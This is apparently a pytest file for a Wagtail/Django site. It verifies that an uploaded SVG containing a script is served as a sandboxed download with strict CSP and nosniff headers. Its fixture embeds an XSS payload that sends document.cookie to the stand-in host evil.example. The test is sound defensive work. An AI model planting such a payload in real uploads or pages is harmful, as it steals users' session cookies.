"""An SVG uploaded as an image never runs its script in the portal's origin: opened directly it is a download
under a sandboxing policy; pages show it through <img>, which never runs an image's scripts."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from wagtail.images import get_image_model
from wagtail.models import Collection

EVIL_SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b'<script>fetch("http://evil.example/?c="+document.cookie)</script><rect width="10" height="10"/></svg>')


@pytest.mark.django_db
def test_an_svg_with_a_script_is_served_as_a_sandboxed_download(client, admin_user, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    client.force_login(admin_user)
    response = client.post("/admin/images/add/", {
        "title": "Znak z kodem", "collection": Collection.get_first_root_node().pk,
        "file": SimpleUploadedFile("znak.svg", EVIL_SVG, content_type="image/svg+xml"),
    })
    assert response.status_code == 302, response.context["form"].errors if response.context else response
    image = get_image_model().objects.get(title="Znak z kodem")
    client.logout()
    served = client.get(image.file.url)
    assert served.status_code == 200
    assert served["Content-Disposition"] == "attachment"
    assert "sandbox" in served["Content-Security-Policy"] and "default-src 'none'" in served["Content-Security-Policy"]
    assert served["X-Content-Type-Options"] == "nosniff"
